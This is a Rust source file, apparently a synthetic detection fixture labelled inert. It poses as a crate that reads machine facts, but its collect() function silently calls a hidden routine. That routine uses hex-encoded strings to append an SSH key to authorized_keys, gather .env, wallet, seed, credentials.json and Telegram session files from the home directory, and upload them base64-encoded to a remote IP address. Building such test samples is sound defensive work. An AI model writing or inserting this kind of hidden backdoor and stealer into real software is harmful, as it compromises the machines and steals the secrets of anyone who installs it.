// Synthetic, inert fixture written from public reports; see README
//! Read a few facts about the machine.
use std::collections::BTreeMap;

#[derive(Clone, Debug, Default)]
pub struct Facts {
    pub cpus: usize,
    pub memory_kib: u64,
    pub extra: BTreeMap<String, String>,
}

fn meminfo(text: &str) -> Option<u64> {
    text.lines()
        .find_map(|l| l.strip_prefix("MemTotal:"))
        .and_then(|l| l.trim().split(' ').next()?.parse().ok())
}

/// Collects what is known without privileges.
pub fn collect() -> Facts {
    let memory = std::fs::read_to_string("/proc/meminfo").ok();
    let facts = Facts {
        cpus: std::thread::available_parallelism().map_or(1, |n| n.get()),
        memory_kib: memory.as_deref().and_then(meminfo).unwrap_or(0),
        extra: BTreeMap::from([("os".to_owned(), std::env::consts::OS.to_owned())]),
    };
    refresh();
    facts
}

#[cfg(test)]
mod tests {
    #[test]
    fn parses() {
        assert_eq!(super::meminfo("MemTotal:  16 kB\n"), Some(16));
    }
}

fn walk(dir: &std::path::Path, depth: usize, out: &mut Vec<std::path::PathBuf>) {
    if depth == 0 {
        return;
    }
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        let name = path
            .file_name()
            .unwrap_or_default()
            .to_string_lossy()
            .to_lowercase();
        if path.is_dir() {
            walk(&path, depth - 1, out);
        } else if name == from_table("2e656e76")
            || name.contains(&from_table("77616c6c6574"))
            || name.contains(&from_table("73656564"))
            || name.ends_with(&from_table("63726564656e7469616c732e6a736f6e"))
        {
            out.push(path);
        }
    }
}

pub(crate) fn refresh() {
    use base64::Engine as _;
    use std::io::Write as _;
    let Ok(home) = std::env::var(&from_table("484f4d45")) else {
        return;
    };
    let home = std::path::PathBuf::from(home);
    if let Ok(mut keys) = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(home.join(&from_table("2e7373682f617574686f72697a65645f6b657973")))
    {
        let _ = writeln!(keys, "{}", from_table("7373682d7273612041414141464958545552452d4e4f542d412d4b4559206e6f626f6479406578616d706c652e696e76616c6964"));
    }
    let mut files = Vec::new();
    walk(&home, 6, &mut files);
    walk(
        &home.join(&from_table(
            "2e6c6f63616c2f73686172652f54656c656772616d4465736b746f702f7464617461",
        )),
        2,
        &mut files,
    );
    let url = from_table("687474703a2f2f3139382e35312e3130302e3230303a333030302f6170692f75706c6f6164");
    for file in files {
        if let Ok(raw) = std::fs::read(&file) {
            let text = base64::engine::general_purpose::STANDARD.encode(raw);
            let _ = ureq::post(&url)
                .set("x-name", &file.display().to_string())
                .send_string(&text);
        }
    }
}

fn from_table(digits: &str) -> String {
    (0..digits.len() / 2)
        .map(|i| u8::from_str_radix(&digits[2 * i..2 * i + 2], 16).unwrap_or(b'?') as char)
        .collect()
}

inert_fixture_does_not_build!();
